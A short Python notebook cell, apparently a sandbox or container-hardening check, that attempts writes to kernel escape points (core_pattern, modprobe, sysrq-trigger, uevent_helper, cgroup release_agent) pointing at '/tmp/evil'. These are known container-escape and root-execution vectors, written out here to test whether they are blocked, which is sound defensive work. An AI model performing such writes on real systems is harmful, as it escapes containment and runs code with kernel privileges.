# %%
# ruff: noqa
attempt("core_pattern", lambda: write("/proc/sys/kernel/core_pattern", "|/tmp/evil"))
attempt("modprobe", lambda: write("/proc/sys/kernel/modprobe", "/tmp/evil"))
attempt("sysrq", lambda: write("/proc/sysrq-trigger", "h"))
attempt("uevent_helper", lambda: write("/sys/kernel/uevent_helper", "/tmp/evil"))
attempt("release_agent", lambda: write("/sys/fs/cgroup/memory/release_agent", "/tmp/evil"))
